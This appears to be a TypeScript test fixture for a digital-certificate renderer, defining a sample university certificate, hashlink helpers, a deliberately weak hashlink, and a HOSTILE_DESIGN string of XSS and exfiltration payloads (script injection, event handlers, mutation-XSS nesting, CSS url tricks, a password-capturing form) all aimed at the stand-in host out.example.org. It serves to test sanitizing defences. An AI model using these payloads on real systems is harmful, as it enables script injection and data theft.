// Designs of certificates, as issuers and as attackers who issue write them. Everything in them is invented.
import { createHash } from 'node:crypto';
import { base58 } from '@scure/base';
import { encode } from 'cborg';

const bytesOf = (text: string) => new TextEncoder().encode(text);

/** A picture that a design can link. */
export const SEAL = bytesOf(
  '<svg xmlns="http://www.w3.org/2000/svg" width="96" height="96"><circle cx="48" cy="48" r="44" fill="#1f4e8c"/><path d="M28 50l14 14 28-32" fill="none" stroke="#fff" stroke-width="8"/></svg>',
);

/** A hashlink to `bytes`, with metadata that names where they are said to be. */
export function hashlinkTo(bytes: Uint8Array, urls: readonly string[] = [], type = 'image/svg+xml'): string {
  const digest = createHash('sha256').update(bytes).digest();
  const link = `hl:z${base58.encode(Uint8Array.of(0x12, 0x20, ...digest))}`;
  const metadata = new Map<number, unknown>([
    [14, type],
    [15, urls],
  ]);
  return urls.length === 0 ? link : `${link}:z${base58.encode(encode(metadata))}`;
}

/** The same by eight bytes of BLAKE2b, which anybody can make two files for. */
export const WEAK_LINK = `hl:z${base58.encode(Uint8Array.of(0xb2, 0x08, 0x08, 1, 2, 3, 4, 5, 6, 7, 8))}:z${base58.encode(
  encode(new Map<number, unknown>([[15, ['https://pictures.example.org/weak.png']]])),
)}`;

export const SEAL_LINK = hashlinkTo(SEAL, ['https://pictures.example.org/seal.svg']);

const CREST = `data:image/svg+xml;base64,${Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" width="72" height="84"><path d="M4 4h64v40q0 26-32 36Q4 70 4 44z" fill="#6b1d2a"/><path d="M36 16l6 13 14 2-10 10 3 14-13-7-13 7 3-14-10-10 14-2z" fill="#e7c873"/></svg>',
).toString('base64')}`;

/** A certificate as a registrar would have it. */
export const DESIGN = `<div style="border:6px double #6b1d2a;padding:32px 24px;text-align:center;font-family:Georgia,'Noto Serif JP',serif;color:#222;background-color:#fffdf6">
<section class="image"><img src="${CREST}" alt="Crest" style="width:72px;height:auto;display:block;margin:0 auto"></section>
<h1 style="font-size:1.6em;margin:16px 0 4px">Tsukimizaka University</h1>
<p style="letter-spacing:.2em;color:#6b1d2a">修了証 · CERTIFICATE OF COMPLETION</p>
<p style="font-size:1.25em;font-weight:bold;margin:20px 0 4px">Akari Example</p>
<p>has completed the course <em>Statistics for Everyone</em> with all its examinations.</p>
<table style="margin:20px auto;border-collapse:collapse;font-size:.9em"><tr><th style="padding:4px 12px;border:1px solid #c9b98f">Course</th><th style="padding:4px 12px;border:1px solid #c9b98f">Grade</th></tr><tr><td style="padding:4px 12px;border:1px solid #c9b98f">Probability</td><td style="padding:4px 12px;border:1px solid #c9b98f">A</td></tr></table>
<p style="font-size:.85em">More at <a href="https://www.example.org/course" target="_blank">www.example.org/course</a></p>
<img src="${SEAL_LINK}" alt="Seal of the university" style="width:96px;height:96px;margin-top:12px">
</div>`;

/** What a design may hold that wants out: every line of it names a host that must never be asked. */
export const HOSTILE_DESIGN = `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=https://out.example.org/refresh"><base href="https://out.example.org/">
<link rel="stylesheet" href="https://out.example.org/a.css"><style>@import "https://out.example.org/b.css"; body{background:url(https://out.example.org/c.png)}</style>
<script src="https://out.example.org/d.js"></script><script>parent.document.title='taken';fetch('https://out.example.org/e')</script></head>
<body onload="fetch('https://out.example.org/f')" background="https://out.example.org/g.png" style="background-image:url(https://out.example.org/h.png)">
<p id="kept">The words of the certificate</p>
<img src="https://out.example.org/i.png" alt="From elsewhere"><img src=x onerror="parent.document.title='taken'"><img srcset="https://out.example.org/j.png 2x">
<img src="//out.example.org/k.png"><img src="data:text/html,<script>1</script>"><img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='fetch(1)'%3E%3Cimage href='https://out.example.org/l.png'/%3E%3C/svg%3E">
<svg><script href="https://out.example.org/m.js"/><image href="https://out.example.org/n.png"/><foreignObject><img src="https://out.example.org/o.png"></foreignObject></svg>
<math><mtext><table><mglyph><style><img src="https://out.example.org/p.png"></style></mglyph></table></mtext></math>
<iframe src="https://out.example.org/q.html" srcdoc="<script>1</script>"></iframe><object data="https://out.example.org/r"></object><embed src="https://out.example.org/s">
<form action="https://out.example.org/t"><input name="password" autofocus onfocus="fetch('https://out.example.org/u')"><button>Sign in</button></form>
<a href="javascript:parent.document.title='taken'">press</a><a href="https://out.example.org/v" ping="https://out.example.org/w" target="_top">go</a>
<video src="https://out.example.org/x" poster="https://out.example.org/y"></video><audio src="https://out.example.org/z" autoplay></audio>
<div style="background:u\\72l(https://out.example.org/1.png);border-image:url(https://out.example.org/2.png) 1;content:image-set('https://out.example.org/3.png' 1x);position:fixed;inset:0">over</div>
<div style="background:image-set('https://out.example.org/4.png' 1x);list-style-image:url(https://out.example.org/5.png);cursor:url(https://out.example.org/6.cur),auto;font-family:x;--a:url(https://out.example.org/7.png);background:var(--a)">under</div>
<noscript><img src="https://out.example.org/8.png"></noscript><template><img src="https://out.example.org/9.png"></template><!--[if IE]><img src="https://out.example.org/10.png"><![endif]-->
<table background="https://out.example.org/11.png"><td background="https://out.example.org/12.png">cell</td></table><p style="color:red;behavior:url(https://out.example.org/13)">The end</p></body></html>`;

export const METADATA = JSON.stringify({
  schema: {
    type: 'object',
    properties: { course: { type: 'object', properties: { hours: { title: 'Hours of study' }, place: { title: '開催地' } } } },
  },
  displayOrder: ['course.place', 'course.hours'],
  course: { hours: 90, place: '月見坂キャンパス' },
  classOf: '2026',
});
